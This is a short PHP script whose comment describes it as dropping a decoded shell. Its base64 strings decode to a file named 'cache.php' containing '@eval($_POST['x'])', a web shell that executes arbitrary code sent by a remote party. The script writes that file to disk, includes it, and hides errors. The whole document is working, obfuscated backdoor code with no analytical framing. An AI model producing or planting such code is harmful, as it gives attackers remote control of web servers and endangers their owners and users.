<?php
// Drops a decoded one-line shell next to itself and includes it.
@fputs(fopen(base64_decode('Y2FjaGUucGhw'), 'w'), base64_decode('PD9waHAgQGV2YWwoJF9QT1NUWyd4J10pOyA/Pg=='));
@include(base64_decode('Y2FjaGUucGhw'));
